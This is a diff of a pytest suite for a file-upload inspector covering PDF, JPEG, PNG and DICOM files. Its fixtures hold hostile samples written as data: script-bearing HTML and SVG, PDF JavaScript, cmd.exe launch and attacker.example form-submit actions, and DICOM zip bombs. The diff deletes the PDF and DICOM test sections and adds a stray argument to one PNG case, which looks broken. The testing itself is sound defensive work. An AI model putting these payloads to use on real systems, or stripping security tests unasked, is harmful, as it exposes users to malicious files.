@@ -10,54 +10,45 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from domain import dicom as dicom_reader
 from domain.content import ContentType, Inspection
-from domain.errors import UnsupportedType
 from tests import contents
-from tests.contents import chunk, data_set, dicom, element, frame, item, jpeg, pdf, png, segment
+from tests.contents import (
+    DAMAGED,
+    DICOM,
+    JPEG,
+    PASSES,
+    PDF,
+    PNG,
+    SEQUENCE_END,
+    chunk,
+    data_set,
+    dicom,
+    element,
+    endless,
+    frame,
+    item,
+    jpeg,
+    pdf,
+    png,
+    refusal,
+    segment,
+    sequence,
+    verdict,
+)
 
-PDF, JPEG, PNG, DICOM = ContentType
 GENUINE = {PDF: pdf(), JPEG: jpeg(), PNG: png(), DICOM: dicom()}
 HTML = b"<!DOCTYPE html><script>alert(1)</script>"
 SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
 
 
-def verdict(declared: ContentType, content: bytes, step: int = 1 << 16) -> UnsupportedType | None:
-    inspection = Inspection(declared)
-    for start in range(0, len(content), step):
-        inspection.feed(content[start : start + step])
-    return inspection.verdict()
-
-
-def refusal(declared: ContentType, content: bytes) -> str:
-    """The message of it: the same however the file is cut into pieces."""
-    said = [str(verdict(declared, content, step)) for step in (1 << 20, 4096, 61)]
-    if len(content) < 5_000:
-        said.append(str(verdict(declared, content, 1)))
-    assert len(set(said)) == 1, said
-    return said[0]
-
-
-PASSES = str(None)
 OTHER_END = "follows the end of the"
-DAMAGED = "is damaged"
-ACTS = "scripts or files"
-OPAQUE = "protected or damaged"
-
-
-def sequence(content: bytes, kind: str = "SQ", tag: tuple[int, int] = (8, 0x1140)) -> bytes:
-    return element(tag, kind, content, length=contents.ENDLESS)
-
-
-def endless(content: bytes) -> bytes:
-    return item(content, contents.ENDLESS) + contents.ITEM_END
 
 
 # ----------------------------------------------------------------------- genuine
 
-_NESTED = sequence(endless(sequence(item(b"12345678")) + contents.SEQUENCE_END) * 2)
+_NESTED = sequence(endless(sequence(item(b"12345678")) + SEQUENCE_END) * 2)
 _UNKNOWN = sequence(
-    endless(element((8, 0x100), "", b"CODE", syntax=contents.IMPLICIT)) + contents.SEQUENCE_END,
+    endless(element((8, 0x100), "", b"CODE", syntax=contents.IMPLICIT)) + SEQUENCE_END,
     "UN",
     (9, 0x1010),
 )
@@ -113,6 +104,7 @@ _UNKNOWN = sequence(
         pytest.param(PNG, png(), id="PNG"),
         pytest.param(
             PNG,
+            SEQUENCE_END,
             png(
                 chunk(b"gAMA", b"\0\0\xb1\x8f"), chunk(b"tEXt", b"Title\0x"), chunk(b"eXIf", b"II")
             ),
@@ -124,9 +116,7 @@ _UNKNOWN = sequence(
         pytest.param(DICOM, dicom(syntax=contents.BIG_ENDIAN), id="DICOM big endian"),
         pytest.param(DICOM, dicom(data_set(frames=120)), id="DICOM with many frames"),
         pytest.param(DICOM, dicom(data_set(pixels=None)[:0]), id="DICOM without a picture"),
-        pytest.param(
-            DICOM, dicom(data_set(_NESTED + contents.SEQUENCE_END)), id="DICOM with sequences"
-        ),
+        pytest.param(DICOM, dicom(data_set(_NESTED + SEQUENCE_END)), id="DICOM with sequences"),
         pytest.param(DICOM, dicom(data_set(_UNKNOWN)), id="DICOM with an unknown sequence"),
         pytest.param(
             DICOM,
@@ -265,7 +255,9 @@ def test_a_page_in_the_preamble_is_refused():
     assert "a web page as well" in refusal(DICOM, HTML.ljust(128, b"\0") + dicom()[128:])
 
 
-@pytest.mark.parametrize("behind", [b"\0", HTML, b"Rar!\x1a\7\0", b"MZ" + bytes(99), png()])
+@pytest.mark.parametrize(
+    "behind", [b"\0", b" " * 1024 + HTML, b"Rar!\x1a\7\0", b"MZ" + bytes(99), png()]
+)
 @pytest.mark.parametrize("declared", ContentType)
 def test_whatever_follows_the_end_is_refused(declared: ContentType, behind: bytes):
     if (declared, behind) == (PDF, b"\0"):
@@ -340,7 +332,7 @@ def test_a_png_that_moves_or_is_in_a_thousand_pieces_is_refused():
         contents.SOI + frame() + contents.EOI,  # no scan
         jpeg(b"\xff\x01"),
         jpeg(b"\xff\xe0\0\1"),
-        jpeg(b"junk"),
+        jpeg(segment(0xE0, b"JFIF\0"), b"junk"),
         jpeg(contents.SOI),
         jpeg(framed=segment(0xC0, b"\x08\0")),
     ],
@@ -353,157 +345,6 @@ def test_a_jpeg_that_costs_its_reader_too_much_is_refused():
     assert "too many scans" in refusal(JPEG, jpeg(scans=201))
     assert "too many parts" in refusal(JPEG, jpeg(segment(0xFE, b"") * 2_000))
     assert "too many pictures" in refusal(JPEG, jpeg() * 5)
-
-
-# --------------------------------------------------------------------------- PDF
-
-
-@pytest.mark.parametrize(
-    "acts",
-    [
-        b"<</S /JavaScript /JS (app.alert\\(1\\))>>",
-        b"<</S /J#61va#53cript /JS (app.alert\\(1\\))>>",
-        b"<</S/#4a#61#76#61#53#63#72#69#70#74/JS 9 0 R>>",
-        b"<</S /Launch /F (cmd.exe)>>",
-        b"<</Type /Filespec /EF <</F 9 0 R>>>> <</Type /EmbeddedFile>>",
-        b"<</Names <</EmbeddedFiles 9 0 R>>>>",
-        b"<</S /SubmitForm /F (https://attacker.example)>>",
-        b"<</S /ImportData /F (x.fdf)>>",
-        b"<</S /GoToR /F (\\\\\\\\attacker.example\\\\x)>>",
-        b"<</S /GoToE>>",
-        b"<</Subtype /RichMedia>>",
-        b"<</AcroForm <</XFA 9 0 R>>>>",
-    ],
-)
-def test_a_pdf_that_acts_by_itself_is_refused_wherever_that_is_written(acts: bytes):
-    padding = contents.stream(bytes(70_000))
-
-    assert ACTS in refusal(PDF, pdf(acts))
-    assert ACTS in refusal(PDF, pdf(padding, acts, padding))
-    assert ACTS in refusal(PDF, pdf(contents.stream(acts)))
-    assert ACTS in refusal(PDF, pdf(contents.packed(acts)))
-    assert ACTS in refusal(PDF, pdf(padding, contents.packed(bytes(70_000), acts)))
-
-
-@pytest.mark.parametrize(
-    "entries",
-    [
-        b" /Filter /LZWDecode",
-        b" /Filter [/ASCIIHexDecode /FlateDecode]",
-        b" /Filter /Fl#61teDecode",
-        b" /Filter 9 0 R",
-        b" /F (elsewhere)",
-        b" /Filter /FlateDecode /DecodeParms <</Predictor 12>>",
-        b" /Filter /FlateDecode /Filter /FlateDecode",
-        b" /Filter %\n/FlateDecode",
-        b" " * 2000,
-    ],
-)
-def test_objects_that_cannot_be_looked_into_are_refused(entries: bytes):
-    content = zlib.compress(b"5 0 <</S /JavaScript>>")
-    hidden = contents.stream(content, contents.OBJECT_STREAM, entries)
-
-    assert OPAQUE in refusal(PDF, pdf(hidden))
-
-
-def test_packed_objects_that_are_enciphered_cut_off_or_elsewhere_are_refused():
-    enciphered = contents.stream(b"\x91\x8a" * 50, contents.OBJECT_STREAM, contents.FLATE)
-    cut_off = contents.stream(
-        zlib.compress(b"5 0 <</A 1>>")[:-6], contents.OBJECT_STREAM, contents.FLATE
-    )
-
-    assert OPAQUE in refusal(PDF, pdf(enciphered, trailer=b" /Encrypt 9 0 R"))
-    assert OPAQUE in refusal(PDF, pdf(cut_off))
-    assert OPAQUE in refusal(PDF, pdf(b"/ObjStm"))
-
-
-def test_a_pdf_that_swells_is_refused():
-    packed = zlib.compress(bytes(65 << 20))
-
-    said = refusal(PDF, pdf(contents.stream(packed, contents.OBJECT_STREAM, contents.FLATE)))
-
-    assert "swells" in said
-
-
-@pytest.mark.parametrize("content", [pdf(version="1.9"), b"%PDF-1.4" + pdf()[8:].lstrip(b"\n")])
-def test_a_pdf_that_begins_wrongly_is_refused(content: bytes):
-    assert "does not begin as one" in refusal(PDF, content)
-
-
-# ------------------------------------------------------------------------- DICOM
-
-
-def test_a_zip_bomb_in_a_dicom_is_refused():
-    bomb = contents.deflated(data_set(pixels=bytes(300 << 20)))
-    assert len(bomb) < 1 << 19
-
-    assert "swells" in refusal(DICOM, dicom(bomb, contents.DEFLATED))
-
-
-def test_a_dicom_that_swells_slowly_is_refused_beyond_what_is_bearable(monkeypatch):
-    monkeypatch.setattr(dicom_reader, "MOST_INFLATED", 1 << 20)
-    noise = bytes(i * i % 251 for i in range(1 << 16))
-    slow = contents.deflated(data_set(pixels=noise * 20))
-
-    assert "swells" in refusal(DICOM, dicom(slow, contents.DEFLATED))
-
-
-def test_a_dicom_with_more_pixels_in_its_frames_than_anybody_has_room_for_is_refused():
-    vast = data_set(rows=10_000, columns=10_000, frames=11)
-
-    assert "too large" in refusal(DICOM, dicom(vast))
-
-
-@pytest.mark.parametrize("syntax", ["1.2.3", "1.2.840.10008.1.2.4.94", ""])
-def test_a_dicom_of_a_transfer_syntax_that_is_not_known_is_refused(syntax: str):
-    assert "transfer syntax" in refusal(DICOM, dicom(syntax=syntax))
-
-
-def test_a_dicom_that_holds_a_document_is_refused():
-    hidden = data_set(pixels=None) + element((0x42, 0x11), "OB", pdf())
-
-    assert "holds a document" in refusal(DICOM, dicom(hidden))
-    assert "holds a document" in refusal(DICOM, dicom(sop_class=contents.PDF_CLASS))
-
-
-@pytest.mark.parametrize(
-    "content",
-    [
-        data_set() + element((0x28, 0x10), "US", b"\xff\xff"),  # not in order: the rows once more
-        element((2, 0x12), "UI", b"1 ") + data_set(),  # Meta Information has ended
-        data_set(element((8, 8), "cs", b"")),
-        data_set(contents.SEQUENCE_END),
-        data_set(contents.ITEM_END),
-        data_set(sequence(element((8, 8), "CS", b"") + contents.SEQUENCE_END)),
-        data_set(sequence(endless(b"") + contents.ITEM_END)),
-        data_set(element((8, 8), "CS", b"", length=0)[:-2]),
-        data_set(pixels=None) + sequence(contents.fragments(b"x"), "OB", (0x7FE0, 0x10)),
-        data_set(frames=10**20),
-    ],
-)
-def test_a_dicom_whose_elements_are_wrong_is_refused(content: bytes):
-    said = refusal(DICOM, dicom(content))
-
-    assert DAMAGED in said or "too early" in said
-
-
-@pytest.mark.parametrize("change", [(-1, 0), (1, 0), (0, 0x0801)])
-def test_a_dicom_whose_meta_information_is_wrong_is_refused(change: tuple[int, int]):
-    longer, group = change
-    rest = element((2 + group, 0x10), "UI", contents.uid(contents.EXPLICIT))
-    length = element((2, 0), "UL", struct.pack("<I", len(rest) + longer))
-
-    assert DAMAGED in refusal(DICOM, bytes(128) + b"DICM" + length + rest + data_set())
-
-
-def test_a_dicom_that_is_too_deep_or_too_long_is_refused():
-    assert "too deep" in refusal(
-        DICOM, dicom(data_set((sequence(b"") + item(b"", contents.ENDLESS)) * 40))
-    )
-    many = b"".join(element((9, n), "CS", b"") for n in range(1, 60_000))
-    assert "too many elements" in refusal(
-        DICOM, dicom(many + b"".join(many.replace(b"\x09\0", bytes([g, 0])) for g in (11, 13, 15)))
-    )
 
 
 # --------------------------------------------------------------- whatever it is
